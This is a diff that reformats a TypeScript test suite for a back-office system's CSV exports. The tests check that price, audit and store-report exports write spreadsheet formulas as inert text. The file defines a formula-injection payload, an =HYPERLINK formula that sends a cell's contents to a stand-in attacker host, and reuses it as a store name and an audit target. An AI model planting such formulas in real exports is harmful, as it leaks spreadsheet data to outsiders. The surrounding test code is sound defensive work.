@@ -25,14 +25,20 @@ const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Preis")';
 let seq = 0;
 
 /** The cells of a CSV text (RFC 4180, as a spreadsheet splits it). */
-const cellsOf = (text: string, delimiter = ",") => parse(text.replace(/^\ufeff/, ""), { delimiter, relax_column_count: true }) as string[][];
+const cellsOf = (text: string, delimiter = ",") =>
+  parse(text.replace(/^\ufeff/, ""), { delimiter, relax_column_count: true }) as string[][];
 
 describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
   let catalog: string;
   let admin: string;
   let payoutA: string;
   const bo = (path: string, token: string, init: { method?: string; json?: unknown } = {}) =>
-    ctx().request(`/api/backoffice${path}`, { host: BACKOFFICE, method: init.method ?? (init.json === undefined ? "GET" : "POST"), ...(init.json === undefined ? {} : { json: init.json }), headers: bearer(token) });
+    ctx().request(`/api/backoffice${path}`, {
+      host: BACKOFFICE,
+      method: init.method ?? (init.json === undefined ? "GET" : "POST"),
+      ...(init.json === undefined ? {} : { json: init.json }),
+      headers: bearer(token),
+    });
 
   beforeAll(async () => {
     catalog = (await staffTokens(ctx(), await makeStaff(ctx(), ["catalog"]))).accessToken;
@@ -56,14 +62,32 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     expect(line[4]).toBe(`${Math.trunc(device!.cents / 100)}.${String(device!.cents % 100).padStart(2, "0")}`);
     expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
 
-    const again = await ctx().request("/api/backoffice/prices/imports?edition=de", { host: BACKOFFICE, method: "POST", body: text, headers: { ...bearer(catalog), "content-type": "text/csv" } });
+    const again = await ctx().request("/api/backoffice/prices/imports?edition=de", {
+      host: BACKOFFICE,
+      method: "POST",
+      body: text,
+      headers: { ...bearer(catalog), "content-type": "text/csv" },
+    });
     expect(again.status).toBe(201);
-    expect(((await again.json()) as { counts: Record<string, number> }).counts).toMatchObject({ changed: 0, new: 0, rejected: 0, unknown: 0 });
+    expect(((await again.json()) as { counts: Record<string, number> }).counts).toMatchObject({
+      changed: 0,
+      new: 0,
+      rejected: 0,
+      unknown: 0,
+    });
   });
 
   it("the audit export writes such a target and value as text; a number stays a number", async () => {
     const action = `test.formula.${++seq}`;
-    await recordAudit(ctx().database.db, { at: new Date(), staffId: null, staffEmail: "+staff@staff.example", action, target: FORMULA, before: -5, after: "@SUM(A1:A9)" });
+    await recordAudit(ctx().database.db, {
+      at: new Date(),
+      staffId: null,
+      staffEmail: "+staff@staff.example",
+      action,
+      target: FORMULA,
+      before: -5,
+      after: "@SUM(A1:A9)",
+    });
     const res = await bo(`/audit?format=csv&action=${action}`, admin);
     expect(res.status).toBe(200);
     const [header, entry, ...rest] = cellsOf(await res.text());
@@ -76,18 +100,54 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     const db = ctx().database.db;
     const now = new Date();
     const partnerId = randomUUID();
-    await db.insert(partners).values({ id: partnerId, key: `k-${partnerId.slice(0, 12)}`, name: "Kette Formel", kind: "agan", voucherPrefix: "KF", createdAt: now, updatedAt: now });
+    await db
+      .insert(partners)
+      .values({
+        id: partnerId,
+        key: `k-${partnerId.slice(0, 12)}`,
+        name: "Kette Formel",
+        kind: "agan",
+        voucherPrefix: "KF",
+        createdAt: now,
+        updatedAt: now,
+      });
     const [store] = await db
       .insert(partnerStores)
-      .values({ partnerId, name: FORMULA, street: "Hauptstraße", houseNumber: "1", zip: "10115", city: "Berlin", email: `formel.${partnerId.slice(0, 8)}@example.com` })
+      .values({
+        partnerId,
+        name: FORMULA,
+        street: "Hauptstraße",
+        houseNumber: "1",
+        zip: "10115",
+        city: "Berlin",
+        email: `formel.${partnerId.slice(0, 8)}@example.com`,
+      })
       .returning({ id: partnerStores.id });
     const env = staffEnvFrom(ctx().deps, uniqueClientAddress());
     const email = `store_staff.${partnerId.slice(0, 8)}@filiale.example`;
-    const { token } = await invitePartnerUser(env, { id: "staff", email: "admin@example.com" }, { partnerId, email, displayName: "Petra Filiale", roles: ["store_staff"], storeId: store!.id });
+    const { token } = await invitePartnerUser(
+      env,
+      { id: "staff", email: "admin@example.com" },
+      { partnerId, email, displayName: "Petra Filiale", roles: ["store_staff"], storeId: store!.id },
+    );
     await setPartnerPassword(env, token, "Filiale-Passwort-2026");
     const { context } = await partnerLogin(env, { email, password: "Filiale-Passwort-2026" }, "web");
     const { offerId } = await smartphoneOffer(ctx());
-    await createStoreTrade(db, context, { offerId, firstName: "Wanda", lastName: "Laufkundin", email: "wanda@example.com", street: null, houseNumber: null, zip: null, city: null }, now);
+    await createStoreTrade(
+      db,
+      context,
+      {
+        offerId,
+        firstName: "Wanda",
+        lastName: "Laufkundin",
+        email: "wanda@example.com",
+        street: null,
+        houseNumber: null,
+        zip: null,
+        city: null,
+      },
+      now,
+    );
 
     const month = now.toLocaleDateString("sv-SE", { timeZone: "Europe/Berlin" }).slice(0, 7);
     const report = await monthReport(db, scopeOf(context.user), month);
@@ -103,7 +163,8 @@ describeEachDatabase("CSV exports and spreadsheet formulas", (ctx) => {
     const placed: string[] = [];
     for (let i = 0; i < 2; i++) {
       const { tradeNumber } = await placeTestTrade(ctx(), { paypal: true, email: uniqueTradeEmail("formel") });
-      for (const to of ["received", "inspected", "payout_pending"] as const) await changeTradeState(ctx().database.db, { tradeNumber, to, actor: { kind: "system" }, reason: "test", now: new Date() });
+      for (const to of ["received", "inspected", "payout_pending"] as const)
+        await changeTradeState(ctx().database.db, { tradeNumber, to, actor: { kind: "system" }, reason: "test", now: new Date() });
       placed.push(tradeNumber);
     }
     // as a trade placed before the rule may hold it
